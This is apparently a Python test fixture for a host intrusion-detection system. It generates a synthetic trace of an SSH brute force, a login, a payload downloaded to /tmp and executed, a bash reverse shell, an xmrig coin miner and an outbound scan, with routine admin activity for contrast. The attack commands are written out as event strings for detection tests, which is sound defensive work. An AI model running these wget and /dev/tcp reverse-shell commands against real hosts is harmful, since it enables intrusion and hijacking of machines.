"""The issue's story of one device, as a trace: a day of ordinary traffic (the learning period),
then an SSH brute force from one address, a successful login from it, a download run from /tmp,
a reverse shell, a coin miner and an outbound scan; and routine administration after it."""
from alert_helpers import START, login_failed, merged, quiet

ATTACKER = "203.0.113.9"
POOL = "198.51.100.66"
ATTACK_AT = START + 86400 + 3600

ATTACK_RULES = {"brute-force", "successful-brute-force", "download-then-run", "binary-from-temp",
                "reverse-shell", "crypto-miner", "outbound-sweep"}


def _process(t, pid, ppid, commandline, uid=1000, user="pi"):
    return {"kind": "process", "t": round(t, 3), "type": "exec", "pid": pid, "ppid": ppid,
            "uid": uid, "commandline": commandline, "user_name": user}


def _connection(t, address, port, local_port, bytes_in, bytes_out):
    return {"kind": "connection", "t": round(t, 3), "protocol": "TCP",
            "local_address": "192.168.1.20", "local_port": local_port, "remote_address": address,
            "remote_port": port, "bytes_in": bytes_in, "bytes_out": bytes_out, "direction": "out"}


def attack(t0=ATTACK_AT):
    events = [login_failed(t0 + 5 * i, ATTACKER, "pi") for i in range(20)]
    events.append({"kind": "login", "t": t0 + 120, "operation": "Login", "pid": 5000,
                   "user_name": "pi", "executable": "sshd", "remote_address": ATTACKER})
    shell = 5001
    events += [_process(t0 + 130, 5010, shell, "wget -q http://%s/x -O /tmp/x" % ATTACKER),
               _process(t0 + 135, 5011, shell, "chmod +x /tmp/x"),
               _process(t0 + 136, 5012, shell, "/tmp/x"),
               _process(t0 + 140, 5013, 5012, "bash -c bash -i >& /dev/tcp/%s/4444 0>&1" % ATTACKER),
               _connection(t0 + 140.5, ATTACKER, 4444, 41000, 2000, 5000),
               _process(t0 + 200, 5020, 5013, "/tmp/.cache/xmrig -o stratum+tcp://%s:3333 -u x" % POOL)]
    events += [_connection(t0 + 201 + i * 0.1, POOL, 3333, 42000 + i, 500, 800) for i in range(50)]
    events += [_connection(t0 + 300 + i * 0.05, "10.0.%d.%d" % (i // 200, i % 200 + 1), 22,
                           43000 + i, 0, 60) for i in range(400)]
    return sorted(events, key=lambda e: e["t"])


def routine(t0=ATTACK_AT):
    """An admin's routine day after learning: logs in as usual, checks, updates, restarts."""
    events = [{"kind": "login", "t": t0, "operation": "Login", "pid": 6000, "user_name": "admin",
               "executable": "pts/0", "remote_address": "192.168.1.5"}]
    for i, line in enumerate(["df -h", "uptime", "systemctl status mosquitto", "apt-get update",
                              "apt-get upgrade -y", "systemctl restart mosquitto",
                              "journalctl -u mosquitto -n 50", "free -m", "ps aux", "ip a"]):
        events.append(_process(t0 + 10 + i * 20, 6010 + i, 6001, line, uid=0, user="root"))
    return events


def story(with_attack=True, with_routine=False):
    """The whole trace: 26 quiet hours, the attack (and/or routine administration) in hour 25."""
    streams = [quiet(hours=26.0)]
    if with_attack:
        streams.append(attack())
    if with_routine:
        streams.append(routine())
    return merged(*streams)
